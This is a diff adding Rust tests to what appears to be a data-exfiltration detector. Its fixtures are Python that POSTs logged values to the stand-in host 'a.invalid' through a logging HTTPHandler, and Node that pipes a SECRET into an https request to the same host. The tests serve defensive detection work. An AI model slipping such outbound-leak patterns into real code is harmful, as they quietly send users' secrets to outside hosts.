@@ -181,6 +181,35 @@ fn libraries_of_python_send_and_read_by_their_own_names() {
 }
 
 #[test]
+fn what_is_logged_goes_where_the_handler_sends_it() {
+    let code = |added: &str, logger: &str| {
+        format!(
+            "import logging, logging.handlers\n\
+             h = logging.handlers.HTTPHandler('a.invalid', '/x', method='POST')\n\
+             logging.getLogger('{added}').addHandler(h)\nlogging.getLogger('{logger}').error(T)"
+        )
+    };
+    assert!(sends(setup(&code("a", "a"))));
+    assert!(sends(setup(&code("a", "a.b"))));
+    assert!(!sends(setup(&code("a", "b"))));
+    assert!(!sends(setup(
+        "import logging\nlogging.getLogger('a').error(T)"
+    )));
+}
+
+#[test]
+fn a_stream_that_goes_into_a_request_takes_what_was_put_into_it() {
+    let code = |given: &str| {
+        format!(
+            "const {{ PassThrough }} = require('stream'); const p = new PassThrough();\n\
+             p.end({given}); p.pipe(require('https').request({{ hostname: 'a.invalid' }}));"
+        )
+    };
+    assert!(sends(node(&code("SECRET"))));
+    assert!(!sends(node(&code("'a'"))));
+}
+
+#[test]
 fn an_archive_holds_what_was_put_into_it() {
     let made = |folder: &str| {
         format!(
